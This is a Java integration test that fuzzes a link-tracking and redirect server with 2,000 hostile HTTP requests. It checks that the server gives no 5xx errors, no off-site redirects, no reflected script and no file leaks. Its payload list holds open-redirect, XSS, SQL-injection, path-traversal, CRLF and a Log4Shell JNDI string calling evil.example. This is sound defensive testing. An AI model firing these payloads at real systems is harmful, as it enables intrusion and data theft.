package io.clicktrail.click;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** Two thousand requests that nobody's browser makes. */
class HostileRequestsIT extends OnSharedServers {

    private static final int REQUESTS = 2_000;
    private static final Pattern STATUS = Pattern.compile("HTTP/1\\.1 (\\d{3})");
    private static final Pattern LOCATION = Pattern.compile("(?im)^location: (.*)$");
    private static final Pattern OURS = Pattern.compile(
            "https://t\\.me/clicktrail_test_bot\\?start=[A-Za-z0-9_-]{30}|https://t\\.me/sportschannel");
    private static final List<String> PATHS = List.of(
            "/click/spring-sale",
            "/click/%s",
            "/l/hostile_straight",
            "/l/%s",
            "/l/hostile_paged",
            "/l/hostile_paged/go",
            "/l/hostile_straight/go",
            "/s/%s",
            "/api/v1/landing/l/hostile_paged",
            "/api/v1/landing/preview",
            "/api/v1/landing/track-time",
            "/api/v1/utm/links",
            "/api/v1/utm/links/%s",
            "/api/v1/utm/links/%s/qr",
            "/api/v1/shares",
            "/%s");
    private static final List<String> PARAMETERS = List.of(
            "uid",
            "sub1",
            "s4",
            "ref",
            "ref_source",
            "utm_source",
            "utm_campaign",
            "pass",
            "link",
            "variant",
            "cursor",
            "to",
            "url",
            "next",
            "redirect",
            "target_url",
            "sign",
            "vk_app_id",
            "vk_user_id",
            "vk_ts");
    private static final List<String> HEADERS = List.of(
            "User-Agent",
            "Accept-Language",
            "Referer",
            "Cookie",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Proto",
            "CF-IPCountry",
            "Accept",
            "traceparent",
            "X-Request-Id",
            "X-Api-Key",
            "Authorization",
            "Origin",
            "X-Original-URL");
    private static final List<String> METHODS = List.of("GET", "GET", "GET", "HEAD", "POST", "PUT", "OPTIONS", "TRACE");
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final List<String> NAUGHTY = List.of(
            "https://evil.example/",
            "//evil.example",
            "\\\\evil.example",
            "/\\evil.example",
            "https:evil.example",
            "https://t.me@evil.example",
            "https://t.me%00.evil.example",
            "https://t.me.evil.example",
            "javascript:alert(1)",
            "data:text/html," + SCRIPT,
            SCRIPT,
            "\"><img src=x onerror=alert(1)>" + SCRIPT,
            "'-alert(1)-'",
            "</title>" + SCRIPT,
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "' OR 1=1 --",
            "../../../../etc/passwd",
            "..;/actuator/env",
            "%2e%2e%2f",
            "\r\nLocation: https://evil.example",
            "\r\n\r\n" + SCRIPT,
            "\u0000",
            "\u2028",
            "\u202Etxt.exe",
            "\uFEFF",
            "🔥".repeat(300),
            "Ω≈ç√∫˜µ≤≥÷",
            "田中さん",
            "ﷺ",
            "نص",
            "1e999999",
            "-1",
            "9223372036854775808",
            "NaN",
            "null",
            "undefined",
            "true",
            "[]",
            "{}",
            "{uid}",
            "%",
            "%%",
            "%zz",
            "%c0%af",
            "%ed%a0%80",
            "%u0041",
            "+",
            "&&==&",
            ";",
            "#",
            "?",
            "a".repeat(3_000),
            "");

    private final Random random = new Random(20_261_121);

    @Test
    void nothingIsAFaultOfOursOrLeadsAwayOrComesBack() {
        known(
                Offers.anOffer().published(),
                Links.aLink().called("hostile_straight").published(),
                Links.aLink().called("hostile_paged").withPage().published());
        List<RawRequest> requests =
                IntStream.range(0, REQUESTS).mapToObj(i -> hostile()).toList();

        List<String> answered = new ArrayList<>();
        SoftAssertions soft = new SoftAssertions();
        requests.forEach(request -> {
            String answer = answerTo(request);
            check(soft, request, answer);
            answered.add(answer);
        });

        soft.assertAll();
        assertThat(answered.stream().filter(answer -> answer.startsWith("HTTP/1.1 302")))
                .as("some of them reach the redirect itself")
                .hasSizeGreaterThan(50);
        assertThat(browser.get("/l/hostile_straight").statusCode()).isEqualTo(302);
    }

    private static void check(SoftAssertions soft, RawRequest request, String answer) {
        Matcher status = STATUS.matcher(answer);
        if (status.find()) {
            soft.assertThat(Integer.parseInt(status.group(1)))
                    .as(request.toString())
                    .isLessThan(500);
        }
        Matcher location = LOCATION.matcher(head(answer));
        while (location.find()) {
            soft.assertThat(location.group(1).strip()).as(request.toString()).matches(OURS);
        }
        soft.assertThat(answer).as(request.toString()).doesNotContain(SCRIPT).doesNotContain("root:x:");
        soft.assertThat(head(answer)).as(request.toString()).doesNotContain("evil.example");
    }

    private static String head(String answer) {
        int end = answer.indexOf("\r\n\r\n");
        return end < 0 ? answer : answer.substring(0, end);
    }

    private RawRequest hostile() {
        String target = oneOf(PATHS).replace("%s", raw(oneOf(NAUGHTY))) + query();
        String headers = "User-Agent: " + Browser.PHONE + "\r\n";
        return switch (random.nextInt(8)) {
            case 0 -> new RawRequest("GET", target, oneOf(HEADERS) + ": " + oneOf(NAUGHTY) + "\r\n", "");
            case 1 -> new RawRequest("GET", target, headers + oneOf(HEADERS) + ": " + huge() + "\r\n", "");
            case 2 ->
                new RawRequest(
                        "POST", target, headers + "Content-Type: application/json\r\n", "{\"pass\": " + oneOf(NAUGHTY));
            default -> new RawRequest(oneOf(METHODS), target, headers, "");
        };
    }

    private String query() {
        StringBuilder query = new StringBuilder("?uid=n-" + random.nextInt(1_000));
        IntStream.range(0, 1 + random.nextInt(4))
                .forEach(i ->
                        query.append('&').append(oneOf(PARAMETERS)).append('=').append(raw(oneOf(NAUGHTY))));
        return query.toString();
    }

    /** Encoded once, twice, or not at all but for what would end the request line. */
    private String raw(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        return switch (random.nextInt(3)) {
            case 0 -> encoded;
            case 1 -> URLEncoder.encode(encoded, StandardCharsets.UTF_8);
            default ->
                text.replace(" ", "%20")
                        .replace("\r", "%0d")
                        .replace("\n", "%0a")
                        .replace("\u0000", "%00");
        };
    }

    private String huge() {
        return "x".repeat(1_000 << random.nextInt(6));
    }

    private <T> T oneOf(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    private String answerTo(RawRequest request) {
        try {
            return request.sendTo(port);
        } catch (IOException e) {
            throw new AssertionError(request + " got no answer in time", e);
        }
    }
}
